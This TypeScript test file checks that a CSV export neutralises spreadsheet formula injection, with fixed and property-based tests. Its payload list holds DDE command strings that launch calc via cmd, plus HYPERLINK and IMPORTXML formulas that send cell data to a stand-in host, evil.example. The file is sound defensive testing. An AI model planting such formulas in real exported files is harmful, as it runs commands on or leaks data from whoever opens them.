import assert from 'node:assert/strict';
import fc from 'fast-check';
import { csvRows } from '../../dialogs/csv';
import { parseCsv } from '../support/parse-csv';

/** Where a spreadsheet begins a cell: the file's own cells, and the parts that other list separators make of them. */
const PARTS = /[;|\t\r\n]/u;
const FORMULA = /^[\s\p{C}]*[=+\-@＝＋－＠]/u;

/** From OWASP and the usual collections. */
const PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Error")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|"/C calc"!A0',
  '=IMPORTXML(CONCAT("https://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  'Contoso;=1+1',
  'Contoso\t=1+1',
  'Contoso\n=1+1',
  'Contoso", "=1+1',
  '";=1+1;"',
  'DDE ("cmd";"/C calc";"!A0")A0',
];

function isHarmless(cell: string): boolean {
  return cell.split(PARTS).every((part) => !FORMULA.test(part));
}

describe('CSV for spreadsheets', () => {
  for (const payload of PAYLOADS) {
    it(`makes ${JSON.stringify(payload)} text`, () => {
      const [row = []] = parseCsv(csvRows([[payload, 'beside it']]));

      assert.equal(row.length, 2);
      assert.ok(isHarmless(row[0] ?? ''), JSON.stringify(row[0]));
    });
  }

  it('leaves alone what is no formula', () => {
    const harmless = ['Fabrikam, Inc.', 'a-b', 'me@contoso.com', '1+1=2', '"quoted"', 'O’Neill', "'tis", ''];

    assert.deepEqual(parseCsv(csvRows([harmless])), [harmless]);
  });

  it('ends every row with CRLF', () => {
    assert.equal(csvRows([['a', 'b'], ['c']]), 'a,b\r\nc\r\n');
  });

  const dangerous = fc.stringMatching(/^[=+\-@＝＋;|\t\r\n ",'\u200b\u00a0ab1]{0,12}$/u);
  const cells = fc.array(fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), dangerous), {
    minLength: 1,
    maxLength: 5,
  });

  it('holds no formula, and all of the data, whatever the data', () => {
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1, maxLength: 4 }), (rows) => {
        // A row of one empty cell can't be told from an empty line.
        fc.pre(rows.every((row) => row.some((cell) => cell !== '')));

        const parsed = parseCsv(csvRows(rows));

        assert.ok(parsed.flat().every(isHarmless));
        const bare = (all: readonly (readonly string[])[]) =>
          all.map((row) => row.map((cell) => cell.replaceAll("'", '')));
        assert.deepEqual(bare(parsed), bare(rows));
      }),
      { numRuns: 500 },
    );
  });
});
